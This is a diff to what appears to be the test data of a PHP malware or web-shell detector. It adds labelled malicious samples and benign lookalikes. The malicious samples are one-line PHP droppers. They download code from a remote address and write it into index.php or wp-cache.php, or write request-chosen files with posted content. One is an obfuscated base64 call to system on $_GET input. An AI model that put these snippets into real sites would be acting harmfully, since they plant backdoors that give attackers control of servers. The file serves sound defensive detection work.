@@ -635,6 +635,38 @@ MALICIOUS = [
         WRITE,
     ),
     (
+        "helper writing to the path it is handed, called with a script's name and a downloaded page",
+        "<?php function put($p, $s) { return file_put_contents($p, $s); }"
+        " put('index.php', file_get_contents('http://203.0.113.5/page?h=' . $_SERVER['HTTP_HOST']));",
+        WRITE,
+    ),
+    (
+        "helper opening the path it is handed for writing (the mode a defaulted parameter)",
+        "<?php function keep($path, $data, $mode = 'wb') { if ($fp = @fopen($path, $mode)) {"
+        " fwrite($fp, $data); fclose($fp); } } function get($u) { return file_get_contents($u); }"
+        " keep('cache/' . 'x.php', get('http://203.0.113.5/p?h=' . $_SERVER['REQUEST_URI']));",
+        WRITE,
+    ),
+    (
+        "helper writing through an SplFileObject it opens on the path it is handed",
+        "<?php function w($p, $d) { $f = new SplFileObject($p, 'w'); $f->fwrite($d); }"
+        " w('index.php', file_get_contents('http://203.0.113.5/t.txt')); w($_GET['n'], $_POST['c']);",
+        WRITE,
+    ),
+    (
+        "helper opening the path it is handed, called with a request-chosen path",
+        "<?php function keep($path, $data) { $h = fopen($path, 'w'); fputs($h, $data); fclose($h); }"
+        " keep($_POST['n'], $_POST['d']);",
+        WRITE,
+    ),
+    (
+        "method writing through a handle, handed a script's name and a fetched page by another method",
+        "<?php class G { function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
+        " return curl_exec($c); } function save($p, $d) { $h = fopen($p, 'a'); fwrite($h, $d); fclose($h); }"
+        " function go() { $this->save('wp-cache.php', $this->get('http://203.0.113.5/t.txt')); } } (new G())->go();",
+        WRITE,
+    ),
+    (
         "table decoded element by element into a new array by foreach",
         "<?php $raw = array('ZXhlYw==', 'c3lzdGVt'); foreach ($raw as $r) { $fn[] = base64_decode($r); }"
         " $fn[1]($_GET['q']);",
@@ -1048,6 +1080,24 @@ BENIGN = [
     (
         "remote feed read with comments and printed escaped",
         "<?php $x = file_get_contents/**/('https://203.0.113.5/feed.xml'); echo htmlspecialchars($x);",
+    ),
+    (
+        "helper writing to the path it is handed: a script's name with fixed text, a page under a text name",
+        "<?php function put($p, $s) { return file_put_contents($p, $s); }"
+        " put('index.php', \"<?php // placeholder\\n\"); put('cache/page.html', file_get_contents('http://203.0.113.5/p'));"
+        " function keep($path, $data) { $h = fopen($path, 'wb'); fwrite($h, $data); fclose($h); }"
+        " keep('config.php', '<?php return array();'); keep('log/' . date('Ymd') . '.txt', $_POST['m']);",
+    ),
+    (
+        "installer helper saving the posted settings as a .php file, and a download behind an exit header",
+        "<?php function fw($f, $data) { $fp = fopen($f, 'wb'); fwrite($fp, $data); fclose($fp); }"
+        " fw('conf/users.auth.php', \"# <?php exit()?>\\n\" . join(':', [$_POST['user'], $_POST['mail']]));"
+        " fw('cache/feed.php', \"<?php die(); ?>\\n\" . file_get_contents('http://203.0.113.5/feed.json'));",
+    ),
+    (
+        "helper reading the path it is handed, called with a script's name",
+        "<?php function show($p) { $h = fopen($p, 'r'); echo htmlspecialchars(fread($h, 8192)); fclose($h); }"
+        " show('index.php');",
     ),
     (
         "helper writing to the path it is handed, called with fixed and cleaned paths",
